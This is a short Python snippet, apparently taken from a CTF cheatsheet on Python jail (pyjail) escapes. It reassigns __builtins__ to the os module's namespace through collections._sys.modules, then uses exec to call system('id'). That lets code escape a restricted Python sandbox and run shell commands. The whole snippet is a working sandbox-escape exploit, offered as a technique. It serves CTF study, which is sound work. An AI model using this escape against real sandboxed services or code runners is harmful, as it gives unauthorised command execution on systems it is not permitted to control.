# Source: github.com/salvatore-abello/python-ctf-cheatsheet pyjails/README.md (multiple exec, no dots: __builtins__ = sys; __builtins__ = modules)
# Family: builtins-route
# What: assigning to __builtins__ swaps name resolution so 'system' resolves in os
import collections
__builtins__ = collections._sys.modules["os"].__dict__
exec("system('id')")
